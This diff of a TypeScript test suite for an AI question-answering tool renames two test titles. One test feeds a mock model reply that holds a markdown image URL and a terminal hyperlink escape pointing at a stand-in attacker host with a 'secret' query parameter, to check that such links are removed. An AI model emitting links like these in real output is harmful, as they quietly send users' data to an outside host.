@@ -173,7 +173,7 @@ describe('with a model', () => {
     expect(err).not.toContain('Note:')
   })
 
-  it('stops asking it at the limit, answers all the same, and says so', async () => {
+  it('stops calling it at the limit, answers without it, and reports the limit', async () => {
     // The last turn is asked without tools.
     const last = ({ body }: ModelRequest): boolean => body['tool_choice'] === 'none'
     const other = await startModelServer([{ when: last, reply: { text: 'It is not known.' } }, ...rules])
@@ -187,7 +187,7 @@ describe('with a model', () => {
     expect(json.answer).not.toBe('')
   })
 
-  it('prints no link that stands in no source, as text and as JSON', async () => {
+  it('prints only links that are in a source, as text and as JSON', async () => {
     const text =
       'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
     const other = await startModelServer([...sqlLoop(SQL, text), { reply: { status: 400 } }])
